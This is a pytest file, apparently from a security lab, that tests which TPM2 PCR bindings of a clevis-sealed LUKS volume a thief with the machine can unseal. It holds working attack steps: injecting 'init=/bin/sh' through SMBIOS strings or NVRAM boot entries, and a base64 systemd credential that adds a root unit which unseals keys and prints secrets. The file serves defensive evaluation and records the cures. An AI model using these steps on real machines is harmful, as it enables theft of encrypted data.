"""Foreign code in the victim's machine: which PCRs see it, and so keep the key.

The attacker boots a live system, or bends the victim's: what the platform tells its firmware is told to systemd
too, a command line, and units that run as root. SMBIOS strings of type 11 are the hypervisor's, or a platform's whose
firmware can be written to. One machine has a binding for each PCR that might see it, so that one start of it tells
which of them keep the key.
"""

import re
from base64 import b64encode
from pathlib import Path

import pytest

from harness.api import Deadline, Enrolment, Tpm2Pin
from harness.api.attack import Attacker, ConsoleSession, Grant, canary_in, nvram

SEALS = {"1": 1, "4": 2, "7": 3, "12": 4, "7+11": 5}
"""The PCRs of each binding, and its keyslot: the passphrase's is 0."""

EACH_PCR = Enrolment(
    "tpm2-each-pcr",
    pins=tuple(Tpm2Pin(tuple(map(int, pcrs.split("+"))), "sha256", f"pcr{pcrs}") for pcrs in SEALS),
)

DEVICE = "/dev/disk/by-partlabel/var"

TRY_ALL = "; ".join(
    f"clevis luks pass -d {DEVICE} -s {slot} >/run/{pcrs} 2>/dev/null"
    f" && cryptsetup open --test-passphrase --key-file /run/{pcrs} --key-slot {slot} {DEVICE}"
    f" && cp /run/{pcrs} /run/pass && echo pcr {pcrs} unseals"
    for pcrs, slot in SEALS.items()
)
"""Ask the TPM for the passphrase of each binding; the last one that it gives, and that opens, stays in /run/pass."""


def unsealed(said: str) -> set[str]:
    """The PCRs whose bindings the TPM unsealed."""
    return set(re.findall(r"pcr ([\d+]+) unseals", said))


def printed(attacker: Attacker, said: str, opened: set[str], evidence: Path) -> set[str]:
    """Submit the canary that was read, once for each binding that gave a passphrase; returns those that it opens."""
    canary = canary_in(said)
    loot = {
        pcrs: attacker.submit(canary if pcrs in opened else None, guard=f"tpm2-pcr{pcrs}", evidence=evidence)
        for pcrs in SEALS
    }
    return {pcrs for pcrs, got in loot.items() if got.extracted}


def asks_the_tpm(console: ConsoleSession, attacker: Attacker) -> set[str]:
    """Be root in the victim's system before it is up: unseal what the TPM gives, and open the volume with that."""
    deadline = Deadline.after(300)
    console.wait_for(r"(?m)^# ", deadline)
    opened = unsealed(console.run(TRY_ALL, deadline, check=False))
    # No udev runs, so nobody but device-mapper itself makes the node.
    console.run(f"DM_DISABLE_UDEV=1 cryptsetup open --key-file /run/pass {DEVICE} var", deadline, check=False)
    console.run("mount -o ro /dev/mapper/var /mnt", deadline, check=False)
    said = console.run("cat /mnt/unlock-lab-canary", deadline, check=False)
    return printed(attacker, said, opened, console.evidence)


@pytest.mark.policy(EACH_PCR)
@pytest.mark.attack(Grant.MACHINE)
@pytest.mark.parametrize(
    ("image", "falls"),
    [
        pytest.param("attacker", {"7"}, id="attacker-image"),
        pytest.param("debian-13", {"7", "7+11"}, id="the-victims-image"),
    ],
)
def test_stolen_foreign_os_against_each_pcr(attacker: Attacker, image: str, falls: set[str]) -> None:
    """The thief boots a live system on the stolen machine, by their own image or by the victim's, which is public.

    PCR 11 holds what systemd-stub measured of the image that it started: it tells a foreign image, and not a foreign
    root file system behind the genuine one. PCR 4 holds the image itself and the addons beside it, of which the victim
    has one and the thief none (`test_stolen_same_boot_image` is without); PCR 12 the command line of that. Seen
    with systemd 257.13: their image opens what is bound to PCR 7 alone, the victim's what is bound to 7 and 11, too.

    Granted: the machine, out of reach of Tang. The cure: a second factor that is not in the machine, or a measurement
    of what lies on the disk (PCR 15). Source: systemd-stub(7), "TPM PCR Notes"; UAPI.7 "Linux TPM PCR Registry".
    """
    with attacker.boot_live_system(disk=attacker.disk(), image=image) as system:
        opened = unsealed(system.attempt(TRY_ALL, 240.0)[1])
        system.attempt(f"cryptsetup open --key-file /run/pass {DEVICE} var", 120.0)
        extracted = printed(attacker, system.canary("var") or "", opened, system.evidence)
    assert extracted == falls


@pytest.mark.policy(EACH_PCR)
@pytest.mark.attack(Grant.MACHINE, Grant.SMBIOS)
def test_smbios_cmdline_opens_a_seal_to_pcr_4_or_7_and_not_one_to_pcr_12(attacker: Attacker) -> None:
    """A string adds ``init=/bin/sh`` to the command line: a root shell at the console, which asks the TPM for the key.

    systemd-stub appends ``io.systemd.stub.kernel-cmdline-extra`` to the command line of a signed image, and measures
    it into PCR 12. The boot image is the same (PCR 4), Secure Boot's keys too (PCR 7).

    Seen with systemd 257.13, Linux 6.12 and OVMF 2025.02: PCRs 9 (the kernel measures its command line there), 10 and
    12 are others, and no more: PCR 1, which was predicted to tell, is what it was.

    Granted: the machine, and its SMBIOS strings. Extracted from seals to PCR 1, 4, 7 and 7+11. Cure: bind PCR 12 too.
    Source: systemd-stub(7), "SMBIOS Type 11 Strings"; systemd, src/boot/stub.c.
    """
    own = "io.systemd.stub.kernel-cmdline-extra=init=/bin/sh"
    with attacker.console(disk=attacker.disk(), smbios=[own]) as console:
        extracted = asks_the_tpm(console, attacker)
    assert extracted == {"1", "4", "7", "7+11"}


@pytest.mark.policy(EACH_PCR)
@pytest.mark.attack(Grant.MACHINE)
def test_uki_cmdline_opens_a_seal_to_pcr_4_or_7_and_not_one_to_pcr_12(attacker: Attacker) -> None:
    """A boot entry in the NVRAM starts the same image with another command line, Secure Boot being off.

    As a boot manager's editor does it, without a boot manager. systemd-stub takes the load option's arguments for the
    image's own command line, and measures them into PCR 12.

    Seen with systemd 257.13 and OVMF 2025.02: the root shell comes, and PCRs 9, 10 and 12 are others, and no more: an
    entry that is outside the boot order is not measured into PCR 1, which was predicted to tell. The TPM gives up every
    seal but the one to PCR 12.

    Granted: the machine. Extracted from seals to PCR 1, 4, 7 and 7+11. Cure: Secure Boot, under which the stub ignores
    such arguments for an image that has a command line (not shown here); or bind PCR 12. Source: systemd-stub(7), "The
    command line".
    """
    arguments = "root=LABEL=root rootfstype=ext4 rw console=ttyS0 TERM=dumb init=/bin/sh"
    variables = attacker.nvram()
    variables.write_bytes(nvram.boot_once(variables.read_bytes(), r"\EFI\BOOT\BOOTX64.EFI", arguments))
    with attacker.console(disk=attacker.disk(), nvram=variables) as console:
        extracted = asks_the_tpm(console, attacker)
    assert extracted == {"1", "4", "7", "7+11"}


LOOT = (
    # Getty hangs up on whoever has its console, so this comes first.
    "[Unit]\nConditionPathExists=!/etc/initrd-release\nRequiresMountsFor=/var\nBefore=serial-getty@ttyS0.service\n"
    "[Service]\nType=oneshot\nStandardOutput=tty\nTTYPath=/dev/ttyS0\n"
    f"ExecStart=/bin/sh -c 'echo here it begins; {TRY_ALL}; cat /var/unlock-lab-canary; echo here it ends'\n"
)
"""A unit of the attacker's, which says what it gets at the console."""

CREDENTIALS = tuple(
    f"io.systemd.credential.binary:{name}={b64encode(text.encode()).decode()}"
    for name, text in {
        "systemd.extra-unit.loot.service": LOOT,
        "systemd.unit-dropin.multi-user.target": "[Unit]\nWants=loot.service\n",
    }.items()
)


@pytest.mark.policy(EACH_PCR)
@pytest.mark.attack(Grant.MACHINE, Grant.SMBIOS)
def test_smbios_credential_runs_a_unit_of_the_attackers(attacker: Attacker) -> None:
    """Two strings are credentials that add a unit to the system: it runs as root, prints the secret, asks the TPM.

    Nothing of the boot chain changes, nor the command line: only what the firmware measures of its SMBIOS tables could.
    The prediction was that PCR 1 covers them. Seen with systemd 257.13 and OVMF 2025.02: every PCR is what it was, PCR
    1 too, since this firmware measures no SMBIOS table; so each of the five seals opens.

    Granted: the machine, and its SMBIOS strings. Extracted. Cure: images that import no credentials (below); PCR 1
    where a firmware measures the tables. Source: systemd-debug-generator(8), ``systemd.extra-unit.*``;
    systemd.system-credentials(7); systemd#42233.
    """
    with attacker.console(disk=attacker.disk(), smbios=CREDENTIALS) as console:
        said = console.wait_for(r"(?s)here it begins.*here it ends", Deadline.after(300))
    assert printed(attacker, said, unsealed(said), console.evidence) == SEALS.keys()


@pytest.mark.policy(EACH_PCR)
@pytest.mark.attack(Grant.MACHINE, Grant.SMBIOS)
def test_smbios_credential_is_not_imported_where_the_command_line_says_so(attacker: Attacker) -> None:
    """The same strings, and an image that says ``systemd.import_credentials=no``: the machine boots as ever.

    The owner's signed command line would say it; here a third string stands in for that. Granted: as above. Seen with
    systemd 257.13: it resists, and this is the cure. Source: systemd(1), ``systemd.import_credentials=``.
    """
    owners = "io.systemd.stub.kernel-cmdline-extra=systemd.import_credentials=no"
    with attacker.console(disk=attacker.disk(), smbios=(owners, *CREDENTIALS)) as console:
        # The unit would have the console before the login has.
        assert console.wait_for("login: |here it begins", Deadline.after(300)) == "login: "
    for pcrs in SEALS:
        attacker.submit(None, guard=f"tpm2-pcr{pcrs}", evidence=console.evidence)
